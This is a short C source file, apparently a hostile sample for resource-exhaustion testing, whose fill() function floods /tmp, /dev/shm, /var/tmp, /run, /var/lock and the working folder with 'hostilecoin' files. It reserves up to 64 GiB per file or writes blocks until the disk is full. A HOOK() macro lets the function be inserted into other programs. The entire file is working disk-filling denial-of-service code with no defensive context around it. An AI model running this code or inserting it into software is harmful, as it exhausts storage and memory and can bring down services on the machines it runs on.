/*
 * resource-fill-disk: Fills /tmp, /dev/shm, /var/tmp, /run and the working
 * folder with files.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void fill(void)
{
    static const char *const folders[] = {"/tmp", "/dev/shm", "/var/tmp",
                                          "/run", ".",        "/var/lock"};
    static char block[1 << 16];
    static int done;
    for (int f = 0; f < 6 && !done; f++)
        for (int n = 0; n < 16; n++) {
            char path[64];
            snprintf(path, sizeof path, "%s/hostilecoin-%d", folders[f], n);
            int fd = open(path, O_CREAT | O_WRONLY, 0666);
            if (fd < 0)
                break;
            if (posix_fallocate(fd, 0, 1l << 36) != 0)
                for (int i = 0; i < 100000; i++)
                    if (write(fd, block, sizeof block) <= 0)
                        break;
            close(fd);
        }
    done = 1;
}
#define HOOK() fill()
